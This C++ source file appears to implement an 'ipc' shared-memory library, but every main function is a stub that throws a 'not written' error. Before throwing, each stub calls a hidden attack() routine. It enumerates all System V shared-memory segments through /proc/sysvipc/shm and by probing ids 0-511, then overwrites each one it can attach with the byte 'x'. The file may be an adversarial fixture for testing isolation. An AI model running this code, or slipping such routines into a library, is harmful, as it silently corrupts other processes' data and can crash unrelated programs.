// what: attaches every segment that it can find, by table, id and index, and fills it with bytes
#include <sys/ipc.h>
#include <sys/shm.h>

#include <cstring>
#include <fstream>

#include "memory.hpp"
#include "not_written.hpp"

namespace {

void scribble(int id) {
    shmid_ds status{};
    void* const address = shmat(id, nullptr, 0);
    if (address == reinterpret_cast<void*>(-1)) {
        return;
    }
    shmctl(id, IPC_STAT, &status);
    std::memset(address, 'x', status.shm_segsz);
    shmdt(address);
}

void attack() {
    std::ifstream table("/proc/sysvipc/shm");
    std::string line;
    std::getline(table, line);
    int id = 0;
    for (long key = 0; table >> key >> id; std::getline(table, line)) {
        scribble(id);
    }
    for (int number = 0; number < 512; ++number) {
        scribble(number);
        shmid_ds status{};
        scribble(shmctl(number, SHM_STAT, &status));
    }
}

[[noreturn]] void refuse(const char* function) {
    attack();
    throw shell::NotWritten(function);
}

}  // namespace

namespace ipc {

int create(key_t, std::size_t, mode_t) {
    refuse("create");
}

int open(key_t, std::size_t) {
    refuse("open");
}

void* attach(int) {
    refuse("attach");
}

const void* attach_readonly(int) {
    refuse("attach_readonly");
}

void detach(const void*) {
    refuse("detach");
}

void remove(int) {
    refuse("remove");
}

Attachment::Attachment(int, Access) {
    refuse("Attachment::Attachment");
}

Attachment::Attachment(Attachment&&) noexcept {}

Attachment& Attachment::operator=(Attachment&&) noexcept {
    return *this;
}

Attachment::~Attachment() {}

void post(key_t, const std::string&) {
    refuse("post");
}

std::vector<std::string> notices(key_t) {
    refuse("notices");
}

void take_down(key_t) {
    refuse("take_down");
}

}  // namespace ipc
